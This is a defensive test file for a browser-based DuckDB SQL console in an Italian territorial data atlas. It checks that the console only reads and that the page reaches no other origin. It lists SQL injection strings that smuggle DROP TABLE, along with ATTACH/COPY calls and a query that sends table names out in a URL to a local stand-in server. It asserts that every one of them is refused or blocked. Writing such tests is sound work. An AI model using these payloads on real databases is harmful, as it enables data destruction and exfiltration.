/**
 * Issue 15: "nothing leaves your machine" and "a read-only console" tried as someone who wants to break
 * them would. A second local server stands for "another origin" and counts every request it receives:
 * the count must stay 0, whatever is typed in the console or run in the page.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import http from 'node:http';
import fs from 'node:fs';
import type { Page } from 'playwright-core';
import { startHarness, type Harness } from './harness';

let h: Harness;
let other: { url: string; hits: string[]; close(): Promise<void> };

function startOther(): Promise<typeof other> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/csv', 'access-control-allow-origin': '*' }).end('a,b\n1,2\n');
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      // "localhost" and "127.0.0.1" are different origins from the atlas's 127.0.0.1:<its port> anyway
      resolve({ url: `http://localhost:${port}`, hits, close: () => new Promise((r) => server.close(() => r())) });
    }),
  );
}

beforeAll(async () => {
  h = await startHarness();
  other = await startOther();
});
afterAll(async () => {
  await h?.close();
  await other?.close();
});

async function openConsole(query = ''): Promise<Page> {
  const page = await h.open(`?tool=sql${query}`, { waitFor: 'db' });
  // the console's own instance holds its copy of the tables once the list beside the editor shows them
  await page.getByTestId('sql-tool').locator('nav summary', { hasText: 'territories' }).waitFor({ timeout: 60000 });
  return page;
}

/** Run a statement; return what the console says (refusal, error or the row count). */
async function run(page: Page, sql: string): Promise<{ kind: 'refused' | 'error' | 'result'; text: string }> {
  const tool = page.getByTestId('sql-tool');
  await tool.getByTestId('sql-input').fill(sql);
  await tool.getByTestId('sql-run').click();
  const said = tool.locator('[data-testid=sql-refused], [data-testid=sql-error], [data-testid=sql-count]');
  await said.first().waitFor({ timeout: 60000 });
  await expect.poll(() => tool.getByTestId('sql-run').isEnabled(), { timeout: 60000 }).toBe(true);
  const id = await said.first().getAttribute('data-testid');
  return {
    kind: id === 'sql-refused' ? 'refused' : id === 'sql-error' ? 'error' : 'result',
    text: (await said.first().textContent()) ?? '',
  };
}

const firstCell = (page: Page) => page.getByTestId('sql-result').locator('tbody td').first().textContent();

describe('the SQL console only reads, and nothing leaves the page (Chromium)', () => {
  it('refuses every write, including the reported bypasses, and the tables stay whole', async () => {
    const page = await openConsole();
    const o = other.url;
    const attacks = [
      "SELECT E'\\''; CREATE TABLE t AS SELECT 42 AS x; -- '",
      "SELECT E'\\''; INSERT INTO territories SELECT * FROM territories; -- '",
      "SELECT E'\\''; DROP TABLE indicators; -- '",
      "SELECT E'\\''; DROP TABLE territories; -- '",
      'SELECT $a$x$a$; DROP TABLE territories; -- $a$',
      'SELECT 1) AS a; DROP TABLE territories; SELECT * FROM (SELECT 1',
      `ATTACH '${o}/db.duckdb' AS x`,
      `COPY territories TO '${o}/x.csv'`,
      "EXPORT DATABASE 'x'",
      'INSTALL httpfs',
      'LOAD httpfs',
      'CALL pragma_version()',
      'PRAGMA version',
      'SET enable_external_access = true',
      'DROP TABLE territories',
    ];
    for (const sql of attacks) {
      const r = await run(page, sql);
      expect(r.kind, sql).toBe('refused');
    }
    expect((await run(page, 'DROP TABLE territories')).text).toMatch(/Sono permesse solo letture.*DROP/);
    expect((await run(page, 'SELECT count(*) AS n FROM territories')).kind).toBe('result');
    // every territory row of the file: 8,024 Italian (Italy, 20 regions, 107 provinces, 7,896 comuni) + 515 SLL + 290 NUTS2
    expect(await firstCell(page)).toBe('8829');
    await run(page, "SELECT count(*) AS n FROM information_schema.tables WHERE table_name = 't'");
    expect(await firstCell(page)).toBe('0');
    // the atlas's own tables (another DuckDB instance) answer the territory panel as before
    await page.getByTestId('sql-tool').getByRole('button', { name: 'Chiudi' }).click();
    await page.getByRole('combobox', { name: 'Cerca un territorio' }).fill('crotone');
    await page.getByRole('option', { name: /Crotone.*Provincia · 101/ }).click();
    await page.waitForSelector('[data-testid=profile-table]', { timeout: 90000 });
    expect(await page.locator('[data-testid=profile-table] tbody tr').count()).toBeGreaterThan(8);
    await page.close();
  });

  it('reaches no other origin from SQL: URLs, query(), read_text(concat(…)), or names sent in a URL', async () => {
    const page = await openConsole();
    const o = other.url;
    const port = new URL(o).port;
    const tries = [
      `SELECT * FROM "${o}/x.csv"`,
      `SELECT * FROM '${o}/x.csv'`,
      `SELECT * FROM read_csv('${o}/x.csv')`,
      `SELECT * FROM query('SELECT * FROM read_csv(''${o}/x.csv'')')`,
      `SELECT * FROM read_text(concat('http', '://localhost:${port}/y'))`,
      `SELECT * FROM read_text('${o}/names?' || (SELECT string_agg(name, ',') FROM territories WHERE level = 'region'))`,
      `SELECT * FROM read_blob('${o}/z')`,
      `SELECT * FROM glob('${o}/*')`,
    ];
    for (const sql of tries) {
      const r = await run(page, sql);
      expect(r.kind, sql).not.toBe('result');
    }
    expect(other.hits).toEqual([]);
    await page.close();
  });

  it('the page itself cannot reach another origin either (Content-Security-Policy)', async () => {
    const page = await h.open('', { waitFor: 'base' });
    const o = other.url;
    const csp = await page.evaluate(
      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
    );
    expect(csp).toContain("connect-src 'self'");
    const outcomes = await page.evaluate(async (o) => {
      const fetched = await fetch(`${o}/f`).then(
        () => 'sent',
        () => 'blocked',
      );
      const img = await new Promise<string>((r) => {
        const i = new Image();
        i.onload = () => r('sent');
        i.onerror = () => r('blocked');
        i.src = `${o}/i.png`;
      });
      const beacon = (() => {
        try {
          return navigator.sendBeacon(`${o}/b`, 'x') ? 'queued' : 'blocked';
        } catch {
          return 'blocked';
        }
      })();
      // a worker started from a blob takes the page's policy (DuckDB's worker is started so)
      const worker = await new Promise<string>((r) => {
        const src = `fetch(${JSON.stringify(`${o}/w`)}).then(() => postMessage('sent'), () => postMessage('blocked'))`;
        const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
        w.onmessage = (e) => r(String(e.data));
        w.onerror = () => r('blocked');
      });
      return { fetched, img, beacon, worker };
    }, o);
    // sendBeacon only queues (it says true): the policy stops the request itself, which the count shows
    expect(outcomes).toMatchObject({ fetched: 'blocked', img: 'blocked', worker: 'blocked' });
    await page.waitForTimeout(1000);
    expect(other.hits).toEqual([]);
    // with a tile server named by the user, that one origin (and no other) is allowed
    const tiles = await h.open(`?tiles=${encodeURIComponent('https://tiles.invalid/{z}/{x}/{y}.png')}`, {
      waitFor: 'none',
    });
    const withTiles = await tiles.evaluate(
      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
    );
    expect(withTiles).toContain("connect-src 'self' https://tiles.invalid;");
    await page.close();
    await tiles.close();
  });

  it('shows numbers as DuckDB computed them, and exports the same cells', async () => {
    const page = await openConsole();
    const r = await run(
      page,
      "SELECT 1.5 AS x, 0.25 AS y, 170141183460469231731687303715884105727::HUGEINT AS h, DATE '2024-01-02' AS d, INTERVAL 3 DAY AS i, [1, 2] AS l, {'a': 1} AS s, NULL AS n",
    );
    expect(r.kind).toBe('result');
    const cells = await page.getByTestId('sql-result').locator('tbody td').allTextContents();
    expect(cells).toEqual([
      '1.5',
      '0.25',
      '170141183460469231731687303715884105727',
      '2024-01-02',
      '3 days',
      '[1, 2]',
      "{'a': 1}",
      'NULL',
    ]);
    const [dl] = await Promise.all([page.waitForEvent('download'), page.getByTestId('sql-export-csv').click()]);
    const csv = fs.readFileSync((await dl.path())!, 'utf8');
    expect(csv).toBe(
      '\ufeffx,y,h,d,i,l,s,n\r\n1.5,0.25,170141183460469231731687303715884105727,2024-01-02,3 days,"[1, 2]",{\'a\': 1},\r\n',
    );
    await page.close();
  });

  it('a huge result is capped and counted, the page stays responsive, and a long query can be stopped', async () => {
    const page = await openConsole();
    await page.evaluate(() => {
      const w = window as unknown as { __gap: number; __last: number };
      w.__gap = 0;
      w.__last = performance.now();
      const tick = (t: number) => {
        w.__gap = Math.max(w.__gap, t - w.__last);
        w.__last = t;
        requestAnimationFrame(tick);
      };
      requestAnimationFrame(tick);
    });
    const r = await run(page, 'SELECT * FROM range(100000000)');
    expect(r.text).toMatch(/^100\.000\.000 righe \(mostrate le prime 200\)/);
    expect(await page.getByTestId('sql-result').locator('tbody tr').count()).toBe(200);
    const gap = await page.evaluate(() => (window as unknown as { __gap: number }).__gap);
    expect(gap).toBeLessThan(1000);
    // ten billion rows to sum: stopped by the user
    const tool = page.getByTestId('sql-tool');
    await tool.getByTestId('sql-input').fill('SELECT sum(a.range * b.range) FROM range(100000) a, range(100000) b');
    await tool.getByTestId('sql-run').click();
    await tool.getByTestId('sql-stop').waitFor({ timeout: 30000 });
    await page.waitForTimeout(500);
    await tool.getByTestId('sql-stop').click();
    await expect
      .poll(() => tool.getByTestId('sql-error').textContent(), { timeout: 20000 })
      .toMatch(/Istruzione fermata/);
    // and the console goes on working
    expect((await run(page, 'SELECT 41 + 1 AS n')).kind).toBe('result');
    expect(await firstCell(page)).toBe('42');
    await page.close();
  });

  it('made no request outside its origin; the only console errors are the refusals it provoked', () => {
    expect(other.hits).toEqual([]);
    expect(h.foreign.filter((u) => !u.startsWith(other.url) && !u.startsWith('https://tiles.invalid'))).toEqual([]);
    expect(
      // the tile server named above is an .invalid host: MapLibre's failed tile fetches are refusals it provoked
      h.errors.filter(
        (e) =>
          !/Content Security Policy|ERR_BLOCKED|net::ERR|Failed to load resource|https:\/\/tiles\.invalid\//.test(e),
      ),
    ).toEqual([]);
  });
});
